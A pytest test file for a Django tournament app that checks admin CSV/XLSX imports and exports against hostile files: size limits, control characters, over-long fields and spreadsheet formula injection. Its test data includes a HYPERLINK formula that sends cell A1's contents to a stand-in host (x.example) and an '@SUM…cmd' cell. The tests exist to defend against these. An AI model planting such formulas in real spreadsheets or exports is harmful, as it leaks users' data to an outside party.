"""Admin imports and CSV exports with hostile files (issue #15).

The import formats (:class:`tournaments.resources.SniffedCSV`,
:class:`~tournaments.resources.LimitedXLSX`) read Excel's es-AR CSV
(semicolons, Windows-1252), refuse empty and too-large files; the resources
refuse control characters, over-long values and formulas row by row and
import nothing when a row is bad; every CSV export writes a formula as text.
"""
from __future__ import annotations

import csv
import io

import pytest
import tablib
from django.test import override_settings
from django.urls import reverse

from rules.models import Card
from rules.resources import CardResource
from tests.factories import PlayerFactory
from tournaments import services
from tournaments.models import Player, Venue
from tournaments.resources import ImportFileError, LimitedXLSX, PlayerResource, SniffedCSV
from tournaments.spreadsheets import spreadsheet_response

from .conftest import registered_event

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"premio")'
HYPERLINK_CELL = '"' + HYPERLINK.replace('"', '""') + '"'  # as a CSV cell, quotes doubled


def import_rows(text: str):
    dataset = tablib.Dataset().load(text, format="csv")
    return PlayerResource().import_data(dataset, dry_run=False, raise_errors=False)


def row_errors(result) -> dict[int, dict[str, list[str]]]:
    return {row.number: row.error.message_dict for row in result.invalid_rows}


# --------------------------------------------------------------------------- formats


def test_sniffed_csv_reads_excel_semicolon_windows_1252():
    data = "nombre;número;sede;provincia\nÑoño Pérez;WM-1;Sede Palermo;CABA\n".encode("cp1252")

    dataset = SniffedCSV().create_dataset(data)

    assert dataset.headers == ["nombre", "número", "sede", "provincia"]
    assert list(dataset[0]) == ["Ñoño Pérez", "WM-1", "Sede Palermo", "CABA"]


def test_sniffed_csv_reads_utf8_with_bom_and_commas():
    data = "\ufeffnombre,número\n\"Castro, Ailén\",WM-2\n".encode()

    dataset = SniffedCSV().create_dataset(data)

    assert dataset.headers == ["nombre", "número"]
    assert list(dataset[0]) == ["Castro, Ailén", "WM-2"]


def test_sniffed_csv_refuses_a_file_over_the_limit_before_parsing():
    data = b"nombre;numero\n" + b"Ana;WM-1\n" * 20  # 14 + 20 * 9 = 194 bytes

    with override_settings(ARENA_IMPORT_MAX_BYTES=150), pytest.raises(ImportFileError) as err:
        SniffedCSV().create_dataset(data)

    assert str(err.value) == "El archivo pesa 194 bytes y el máximo es 150 bytes; dividilo en partes más chicas."


def test_sniffed_csv_refuses_an_empty_file():
    with pytest.raises(ImportFileError) as err:
        SniffedCSV().create_dataset(b"  \n\n")

    assert str(err.value) == "El archivo está vacío."


def test_limited_xlsx_refuses_a_file_over_the_limit():
    with override_settings(ARENA_IMPORT_MAX_BYTES=10), pytest.raises(ImportFileError):
        LimitedXLSX().create_dataset(b"PK\x03\x04" + b"0" * 20)


# --------------------------------------------------------------------------- player rows


def test_player_import_refuses_a_formula_name_and_imports_nothing(venue_a):
    text = f"nombre,número,sede,provincia\nBien,WM-0301,Sede Palermo,CABA\n{HYPERLINK_CELL},WM-0302,,\n"

    result = import_rows(text)

    assert row_errors(result) == {
        2: {"nombre": ["No puede empezar con «=»: una planilla lo leería como fórmula."]},
    }
    assert Player.objects.count() == 0


def test_player_import_refuses_control_characters_with_the_row(venue_a):
    result = import_rows("nombre,número\nAna,WM-1\nBe\x00to,WM-2\n")

    assert row_errors(result) == {2: {"nombre": ["Contiene caracteres de control no permitidos (U+0000)."]}}
    assert Player.objects.count() == 0


def test_player_import_refuses_over_long_venue_and_province(venue_a):
    result = import_rows(f"nombre,número,sede,provincia\nAna,WM-1,{'S' * 121},{'P' * 81}\n")

    assert row_errors(result) == {
        1: {
            "sede": ["Tiene 121 caracteres y el máximo es 120."],
            "provincia": ["Tiene 81 caracteres y el máximo es 80."],
        }
    }
    assert Venue.objects.count() == 1  # venue_a only


def test_player_import_clean_rows_still_import(venue_a):
    result = import_rows("nombre,número,sede,provincia\nAna-María Paz,WM-1,Sede Palermo,CABA\n")

    assert not result.has_validation_errors()
    assert Player.objects.get(player_number="WM-1").display_name == "Ana-María Paz"


def test_catalog_import_refuses_control_characters_per_row():
    header = "game,name,card_type,subtype,species,family,is_super,aliases,source,note\n"
    text = header + "weed_monsters,Kush\x07 Alado,monster,,,,0,,Sede,\n"

    result = CardResource().import_data(tablib.Dataset().load(text, format="csv"), dry_run=False)

    assert {row.number: row.error.message_dict for row in result.invalid_rows} == {
        1: {"name": ["Contiene caracteres de control no permitidos (U+0007)."]},
    }
    assert not Card.objects.filter(name__startswith="Kush").exists()


# --------------------------------------------------------------------------- exports


def test_player_export_writes_a_formula_name_as_text():
    PlayerFactory(display_name=HYPERLINK, player_number="WM-9", home_venue=None)

    rows = list(csv.reader(io.StringIO(PlayerResource().export(Player.objects.all()).csv)))

    assert rows[1][0] == "'" + HYPERLINK


def test_standings_csv_neutralises_a_formula_name_and_keeps_negative_numbers(client_a, venue_a):
    event = registered_event(venue_a, players=4, cut_size=0, name="Fecha Formula")
    player = event.registrations.order_by("pk").first().player
    Player.objects.filter(pk=player.pk).update(display_name="@SUM(1+1)*cmd")
    for _ in range(2):
        rnd = services.round_pair_next(event=event)
        for match in rnd.tables.filter(is_bye=False):
            services.table_result_record(table=match, seats=[{"games": 2}, {"games": 0}])

    response = client_a.get(reverse("admin:tournaments_event_standings_csv", args=[event.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff")), delimiter=";"))
    names = [line[1] for line in rows[1:]]
    assert "'@SUM(1+1)*cmd" in names and "@SUM(1+1)*cmd" not in names
    differentials = [line[11] for line in rows[1:]]
    # 4 players, 2 rounds of 2-0: game differentials +4, 0, 0, -4 (someone lost twice), written as numbers.
    assert sorted(int(value) for value in differentials) == [-4, 0, 0, 4]


def test_league_csv_neutralises_formulas_in_every_cell():
    response = spreadsheet_response("x", ["Jugador", "Puntos"], [[HYPERLINK, 3], ["+54 11 5555", -2], ["Ana", "-1"]],
                                    kind="csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff")), delimiter=";"))

    assert rows == [["Jugador", "Puntos"], ["'" + HYPERLINK, "3"], ["'+54 11 5555", "-2"], ["Ana", "-1"]]
